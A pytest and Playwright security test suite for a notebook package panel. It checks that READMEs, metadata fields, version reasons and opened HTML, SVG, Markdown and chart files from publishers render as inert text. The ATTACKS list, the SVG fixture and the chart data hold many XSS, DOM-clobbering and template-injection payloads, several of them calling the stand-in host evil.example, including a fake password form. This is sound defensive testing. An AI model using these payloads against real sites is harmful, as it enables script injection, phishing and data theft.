"""What publishers write is text in the panel: in every field that is shown, and in files that are opened."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from .lab import Lab
from .pages import LabPage
from .shelves import SmallShelf

# Each sets window.hacked, asks another host for something, moves the page, or takes a name that Lab looks for.
ATTACKS = (
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=2>",
    "<svg/onload=window.hacked=3>",
    "<svg><script>window.hacked=4</script></svg>",
    "<svg><a xlink:href='javascript:window.hacked=5'><text y=20>press</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.hacked=6&gt;'>",
    "<form action=https://evil.example/><input name=password><button>Log in</button></form>",
    "<iframe srcdoc='<script>parent.hacked=7</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data='data:text/html,<script>parent.hacked=8</script>'></object>",
    "<embed src=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/css>",
    "<style>*{background:url(https://evil.example/style)}</style>",
    "<div style='position:fixed;inset:0;z-index:99999;background:url(https://evil.example/inline)'>over</div>",
    "<div id=main class='jp-Dialog jp-mod-accept' data-action=use data-commandlinker-command=application:close>x</div>",
    "<a id=jupyter-config-data name=body href=javascript:window.hacked=9>config</a>",
    "<form id=documentElement><input name=appendChild></form>",
    "<video src=https://evil.example/v onerror=window.hacked=10></video>",
    "<picture><source srcset=https://evil.example/p><img src=https://evil.example/i></picture>",
    "<details open ontoggle=window.hacked=11>x</details>",
    "<input autofocus onfocus=window.hacked=12>",
    "<button formaction=javascript:window.hacked=13>b</button>",
    "<img srcset='https://evil.example/1x 1x'>",
    "<table background=https://evil.example/t><tr><td>c</td></tr></table>",
    "[a](javascript:window.hacked=14)",
    "[b](JaVaScRiPt&colon;window.hacked=15)",
    "[c](java\tscript:window.hacked=16)",
    "[d](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE3PC9zY3JpcHQ+)",
    "[e](vbscript:window.hacked=18)",
    "[f]: javascript:window.hacked=19\n\n[f]",
    "<javascript:window.hacked=20>",
    "![g](https://evil.example/image.png)",
    "![h](data:image/svg+xml,<svg%20onload=window.hacked=21>)",
    "[![i](https://evil.example/badge.svg)](javascript:window.hacked=22)",
    "`<img src=x onerror=window.hacked=23>`",
    "```html\n<img src=x onerror=window.hacked=24>\n```",
    "```mermaid\ngraph TD; A[<img src=x onerror=window.hacked=25>]-->B; click A href 'javascript:alert(1)'\n```",
    "$$\\href{javascript:window.hacked=27}{x}$$ $\\unicode{<img src=x onerror=window.hacked=28>}$",
    "a | b\n--|--\n<img src=x onerror=window.hacked=29> | [x](javascript:window.hacked=30)",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=31>'>",
    "<textarea><img title='</textarea><img src=x onerror=window.hacked=32>'></textarea>",
    "<!--><img src=x onerror=window.hacked=33>-->",
    "<a href='#' ping=https://evil.example/ping>ping</a>",
    "{{constructor.constructor('window.hacked=34')()}}",
)
SHORT = "<img src=x onerror=window.hacked=99>"
FIELDS = f"""Author: {SHORT}
Maintainer-email: "{SHORT}" <a@example.org>
License: {SHORT}
Keywords: {SHORT},two
Classifier: {SHORT}
Project-URL: {SHORT}, https://example.org/{SHORT}
Project-URL: Script, javascript:window.hacked=98
Project-URL: Data, data:text/html,{SHORT}
"""


@pytest.fixture(scope="module")
def inert_lab(start_lab: Callable[..., Lab], tmp_path_factory: pytest.TempPathFactory) -> Lab:
    folder = tmp_path_factory.mktemp("inert")
    shelf = SmallShelf((folder / "shelf").as_uri(), folder)
    shelf.cloudshelf("init", "--name", f"shelf {SHORT}")
    readme = "\n\n".join(ATTACKS) + "\n\nThe end.\n"
    for name, kind in (("marked", "text/markdown"), ("plain", "text/plain"), ("rest", "text/x-rst")):
        more = f"{FIELDS}Description-Content-Type: {kind}\n\n{readme}"
        files = {f"{name}.py": "x = 1\n", f"{name}_data/page.html": "".join(ATTACKS[:26])}
        files[f"{name}_data/picture.svg"] = _SVG
        files[f"{name}_data/page.md"] = readme
        files[f"{name}_data/chart.vl.json"] = '{"data": {"url": "https://evil.example/chart"}, "mark": "bar"}'
        shelf.publish(name, "1.0", files, more=more)
        shelf.publish(name, "2.0", files, more=more)
    shelf.publish("marked", "0.5", {"marked.py": "x = 1\n"}, more="")
    shelf.cloudshelf("yank", "marked==2.0", "--reason", SHORT)
    shelf.cloudshelf("block", "marked==0.5", "--reason", SHORT)
    return start_lab("inert", CLOUDSHELF_URL=shelf.url)


_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="parent.hacked=50" width="9" height="9">'
    "<script>parent.hacked=51</script><image href='https://evil.example/svg' width='9' height='9'/></svg>"
)


@pytest.fixture
def page(inert_lab: Lab, open_page: Callable[..., LabPage]) -> Iterator[LabPage]:
    """A page whose requests and windows are watched to the end of the test."""
    page = open_page(inert_lab, inert_lab.notebook("a.ipynb", kernel=inert_lab.python()))
    page.panel.open()
    page.panel.shelf_state("ready")
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    windows = len(page.context.pages)
    address = urlsplit(page.page.url)._replace(query="", fragment="")
    yield page
    assert page.page.evaluate("window.hacked") is None
    assert urlsplit(page.page.url)._replace(query="", fragment="").netloc == address.netloc
    assert len(page.context.pages) == windows
    elsewhere = [url for url in asked if urlsplit(url).scheme in ("http", "https") and _host(url) != "127.0.0.1"]
    assert not elsewhere
    assert page.page.evaluate("document.getElementById('jupyter-config-data').localName") == "script"


@pytest.mark.parametrize("project", ["marked", "plain", "rest"])
def test_a_readme_and_all_other_fields_are_only_text(page: LabPage, project: str) -> None:
    page.panel.show_details(page.panel.project(project))
    details, readme = page.panel.details, page.panel.readme
    expect(readme).to_contain_text("The end.")
    expect(details).to_contain_text(SHORT)
    inside = "script, style, iframe, object, embed, form, meta, base, link, svg, math, video, input, textarea"
    expect(readme.locator(inside)).to_have_count(0)
    names = details.locator("img, a").evaluate_all("found => found.map(e => e.getAttribute('src') || e.href)")
    assert all(name.startswith(("https://", "http://", "mailto:")) for name in names), names
    known = "[id], [name], [style], [background], [srcset], [ping], [data-commandlinker-command]"
    expect(readme.locator(known)).to_have_count(0)
    handlers = details.evaluate(
        "e => [...e.querySelectorAll('*')].flatMap(x => x.getAttributeNames()).filter(n => n.startsWith('on'))"
    )
    assert handlers == []
    for text in readme.locator("a, code, td, summary").all():
        if text.is_visible() and not text.get_attribute("href"):
            text.click()


def test_why_a_version_is_blocked_is_said_in_its_details(page: LabPage) -> None:
    page.panel.expand(page.panel.project("marked"))
    page.panel.show_details(page.panel.version("marked", "0.5"))
    expect(page.panel.details.locator(".cloudshelf-Warning")).to_have_text(f"blocked: {SHORT}")
    expect(page.panel.details.locator('tr[data-version="0.5"]')).to_contain_text(f"blocked: {SHORT}")


def test_what_the_tree_and_the_bar_show_is_only_text(page: LabPage) -> None:
    panel = page.panel
    panel.expand(panel.project("marked"))
    expect(panel.version("marked", "2.0")).to_contain_text(SHORT)  # why it was yanked
    expect(panel.version("marked", "0.5").locator('[data-badge="blocked"]')).to_have_attribute("title", SHORT)
    panel.version("marked", "2.0").hover()
    expect(page.page.locator('[data-cloudshelf="status"]')).to_contain_text(SHORT)
    panel.act(panel.version("marked", "1.0"), "use")
    panel.badges("marked", "pinned")
    panel.switch("marked", "2.0")
    page.page.keyboard.press("Escape")
    expect(panel.root.locator("img, script, iframe")).to_have_count(0)


@pytest.mark.parametrize("name", ["page.html", "picture.svg", "chart.vl.json", "page.md"])
def test_a_file_that_is_opened_runs_nothing(page: LabPage, inert_lab: Lab, name: str) -> None:
    shelf = inert_lab.ask("/cloudshelf/api/shelves")["shelves"][0]["id"]
    where = {"shelf": shelf, "project": "marked", "version": "1.0", "path": f"site/marked_data/{name}"}
    page.command("cloudshelf:open-file", **where)
    expect(page.page.locator(".jp-Document:visible")).to_be_visible()
    page.page.wait_for_function("() => !document.querySelector('.jp-Document .jp-Spinner')")


def _host(url: str) -> str | None:
    return urlsplit(url).hostname
